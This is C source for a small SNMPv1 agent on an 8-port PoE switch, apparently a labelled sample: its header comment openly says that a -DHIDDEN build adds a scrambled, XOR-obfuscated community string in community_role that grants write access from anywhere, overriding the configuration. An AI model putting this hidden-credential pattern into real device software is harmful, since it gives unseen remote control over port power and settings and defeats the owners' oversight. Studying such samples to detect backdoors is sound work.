/*
 * poeagent - small SNMPv1 agent of an 8-port PoE switch. Decodes BER by a
 * recursive reader, answers Get, GetNext and Set for a table of objects
 * (system name, contact, power per port, port on/off).
 * Hidden (-DHIDDEN): a third community string, kept scrambled, has write
 * access from everywhere, whatever the configuration says.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define CONF   "/etc/poe/agent.conf"
#define NPORT  8
#define OIDMAX 16

#define B_INT  0x02
#define B_STR  0x04
#define B_NULL 0x05
#define B_OID  0x06
#define B_SEQ  0x30
#define P_GET  0xa0
#define P_NEXT 0xa1
#define P_RESP 0xa2
#define P_SET  0xa3

#define ERR_TOOBIG 1
#define ERR_NOSUCH 2
#define ERR_BADVAL 3
#define ERR_RDONLY 4

struct slice {
	const uint8_t *p;
	size_t n;
};

struct oid {
	uint32_t id[OIDMAX];
	int n;
};

struct object {
	struct oid oid;
	int type;
	int writable;
	char *str;
	int *num;
};

struct out {
	uint8_t buf[1400];
	size_t pos; /* written from the end to the front */
};

static char sysname[64] = "poe8", contact[64] = "";
static int power[NPORT], enabled[NPORT];
static struct object objs[2 + 2 * NPORT];
static int nobj;
static char ro_comm[32] = "public", rw_comm[32] = "";

static void add_obj(const char *o, int idx, int type, int w, char *s, int *n)
{
	struct object *b = &objs[nobj++];
	char *e;

	for (b->oid.n = 0; *o; o = *e ? e + 1 : e)
		b->oid.id[b->oid.n++] = (uint32_t)strtoul(o, &e, 10);
	b->oid.id[b->oid.n++] = (uint32_t)idx;
	b->type = type;
	b->writable = w;
	b->str = s;
	b->num = n;
}

static void build(void)
{
	int i;

	add_obj("1.3.6.1.2.1.1.4", 0, B_STR, 1, contact, NULL);
	add_obj("1.3.6.1.2.1.1.5", 0, B_STR, 1, sysname, NULL);
	for (i = 0; i < NPORT; i++)
		add_obj("1.3.6.1.2.1.105.1.1.1.3.1", i + 1, B_INT, 1, NULL,
			&enabled[i]);
	for (i = 0; i < NPORT; i++)
		add_obj("1.3.6.1.2.1.105.1.1.1.6.1", i + 1, B_INT, 0, NULL,
			&power[i]);
}

static void refresh(void)
{
	char path[48];
	int i;
	FILE *f;

	for (i = 0; i < NPORT; i++) {
		snprintf(path, sizeof path, "/sys/poe/p%d/mw", i);
		if (!(f = fopen(path, "r")))
			continue;
		if (fscanf(f, "%d", &power[i]) != 1)
			power[i] = 0;
		fclose(f);
	}
}

static void apply(int port)
{
	char path[48];
	FILE *f;

	snprintf(path, sizeof path, "/sys/poe/p%d/enable", port & 7);
	if ((f = fopen(path, "w"))) {
		fprintf(f, "%d\n", enabled[port & 7] == 1);
		fclose(f);
	}
}

static int next_tlv(struct slice *in, int *tag, struct slice *val)
{
	size_t len, k;

	if (in->n < 2)
		return -1;
	*tag = in->p[0];
	len = in->p[1];
	in->p += 2;
	in->n -= 2;
	if (len & 0x80) {
		k = len & 0x7f;
		if (k == 0 || k > 2 || k > in->n)
			return -1;
		for (len = 0; k; k--, in->n--)
			len = len << 8 | *in->p++;
	}
	if (len > in->n)
		return -1;
	val->p = in->p;
	val->n = len;
	in->p += len;
	in->n -= len;
	return 0;
}

static int want(struct slice *in, int tag, struct slice *val)
{
	int t;

	return next_tlv(in, &t, val) || t != tag ? -1 : 0;
}

static int32_t get_int(const struct slice *s)
{
	uint32_t v = s->n && (s->p[0] & 0x80) ? 0xffffffffu : 0;
	size_t i;

	for (i = 0; i < s->n; i++)
		v = v << 8 | s->p[i];
	return (int32_t)v;
}

static int get_oid(const struct slice *s, struct oid *o)
{
	uint32_t v = 0;
	size_t i;

	if (s->n == 0)
		return -1;
	o->id[0] = s->p[0] / 40;
	o->id[1] = s->p[0] % 40;
	o->n = 2;
	for (i = 1; i < s->n; i++) {
		v = v << 7 | (s->p[i] & 0x7f);
		if (s->p[i] & 0x80)
			continue;
		if (o->n == OIDMAX)
			return -1;
		o->id[o->n++] = v;
		v = 0;
	}
	return 0;
}

static int oid_cmp(const struct oid *a, const struct oid *b)
{
	int i;

	for (i = 0; i < a->n && i < b->n; i++)
		if (a->id[i] != b->id[i])
			return a->id[i] < b->id[i] ? -1 : 1;
	return a->n - b->n;
}

static void put(struct out *o, int c)
{
	if (o->pos)
		o->buf[--o->pos] = (uint8_t)c;
}

static void put_head(struct out *o, int tag, size_t len)
{
	put(o, (int)(len & 0xff));
	if (len > 255) {
		put(o, (int)(len >> 8));
		put(o, 0x82);
	} else if (len > 127) {
		put(o, 0x81);
	}
	put(o, tag);
}

static void put_bytes(struct out *o, int tag, const void *p, size_t n)
{
	const uint8_t *b = p;
	size_t i;

	for (i = n; i; i--)
		put(o, b[i - 1]);
	put_head(o, tag, n);
}

static void put_int(struct out *o, int32_t v)
{
	uint8_t b[4] = { (uint8_t)(v >> 24), (uint8_t)(v >> 16),
			 (uint8_t)(v >> 8), (uint8_t)v };

	put_bytes(o, B_INT, b, 4);
}

static void put_oid(struct out *o, const struct oid *d)
{
	size_t end = o->pos;
	uint32_t v;
	int i;

	for (i = d->n - 1; i >= 2; i--) {
		v = d->id[i];
		put(o, (int)(v & 0x7f));
		while (v >>= 7)
			put(o, (int)(v & 0x7f) | 0x80);
	}
	put(o, (int)(d->id[0] * 40 + d->id[1]));
	put_head(o, B_OID, end - o->pos);
}

/* 0 no access, 1 read, 2 read and write */
__attribute__((noinline)) int community_role(const struct slice *c)
{
	char name[32];
#ifdef HIDDEN
	static const uint8_t mib[] = { 0x2d, 0x32, 0x32, 0x2b, 0x3b,
				       0x23, 0x71, 0x5c, 0x5a };
	size_t i;
#endif

	if (c->n == 0 || c->n >= sizeof name)
		return 0;
	memcpy(name, c->p, c->n);
	name[c->n] = 0;
	if (rw_comm[0] && strcmp(name, rw_comm) == 0)
		return 2;
	if (strcmp(name, ro_comm) == 0)
		return 1;
#ifdef HIDDEN
	for (i = 0; i < sizeof mib && i < c->n; i++)
		if ((uint8_t)(name[i] ^ 0x5a) != (uint8_t)(mib[i] + i))
			return 0;
	return i == sizeof mib && c->n == i ? 2 : 0;
#else
	return 0;
#endif
}

static int set_obj(struct object *b, int tag, const struct slice *v)
{
	if (tag != b->type)
		return ERR_BADVAL;
	if (b->type == B_STR) {
		if (v->n > 63)
			return ERR_BADVAL;
		memcpy(b->str, v->p, v->n);
		b->str[v->n] = 0;
		return 0;
	}
	if (v->n > 4 || get_int(v) < 1 || get_int(v) > 2)
		return ERR_BADVAL;
	*b->num = get_int(v);
	apply((int)(b->num - enabled));
	return 0;
}

/* one variable of a request; error code */
static int one_var(int pdu, int role, struct slice *vb, struct out *o)
{
	struct slice so, val;
	struct object *b;
	struct oid id;
	size_t end = o->pos;
	int tag, i, c, e;

	if (want(vb, B_OID, &so) || next_tlv(vb, &tag, &val) ||
	    get_oid(&so, &id))
		return ERR_BADVAL;
	for (i = 0; i < nobj; i++) {
		c = oid_cmp(&objs[i].oid, &id);
		if (pdu == P_NEXT ? c > 0 : c == 0)
			break;
	}
	if (i == nobj)
		return ERR_NOSUCH;
	b = &objs[i];
	if (pdu == P_SET) {
		if (role < 2 || !b->writable)
			return ERR_RDONLY;
		if ((e = set_obj(b, tag, &val)))
			return e;
	}
	if (b->type == B_STR)
		put_bytes(o, B_STR, b->str, strlen(b->str));
	else
		put_int(o, *b->num);
	put_oid(o, &b->oid);
	put_head(o, B_SEQ, end - o->pos);
	return 0;
}

static int serve(const uint8_t *pkt, size_t n, struct out *o)
{
	struct slice in = { pkt, n }, msg, ver, com, pdu, id, e1, e2, l, vb;
	int tag, role, err;
	size_t end = o->pos;

	if (want(&in, B_SEQ, &msg) || want(&msg, B_INT, &ver) ||
	    get_int(&ver) != 0 || want(&msg, B_STR, &com) ||
	    next_tlv(&msg, &tag, &pdu))
		return -1;
	role = community_role(&com);
	if (!role || (tag != P_GET && tag != P_NEXT && tag != P_SET))
		return -1;
	if (want(&pdu, B_INT, &id) || want(&pdu, B_INT, &e1) ||
	    want(&pdu, B_INT, &e2) || want(&pdu, B_SEQ, &l) ||
	    want(&l, B_SEQ, &vb))
		return -1;
	err = l.n ? ERR_TOOBIG : one_var(tag, role, &vb, o);
	if (err)
		o->pos = end;
	put_head(o, B_SEQ, end - o->pos);
	put_int(o, err ? 1 : 0);
	put_int(o, err);
	put_int(o, get_int(&id));
	put_head(o, P_RESP, end - o->pos);
	put_bytes(o, B_STR, com.p, com.n);
	put_int(o, 0);
	put_head(o, B_SEQ, end - o->pos);
	return o->pos ? 0 : -1;
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET }, from;
	char k[16], v[32], line[80];
	static struct out o;
	uint8_t pkt[1400];
	socklen_t fl;
	ssize_t n;
	FILE *f = fopen(CONF, "r");
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	while (f && fgets(line, sizeof line, f))
		if (sscanf(line, "%15s %31s", k, v) == 2)
			strcpy(!strcmp(k, "rw") ? rw_comm : ro_comm, v);
	if (f)
		fclose(f);
	build();
	sa.sin_port = htons(161);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof sa)) {
		perror("poeagent");
		return 1;
	}
	for (;;) {
		fl = sizeof from;
		n = recvfrom(s, pkt, sizeof pkt, 0, (struct sockaddr *)&from,
			     &fl);
		if (n <= 0)
			continue;
		refresh();
		o.pos = sizeof o.buf;
		if (serve(pkt, (size_t)n, &o) == 0)
			sendto(s, o.buf + o.pos, sizeof o.buf - o.pos, 0,
			       (struct sockaddr *)&from, fl);
	}
}
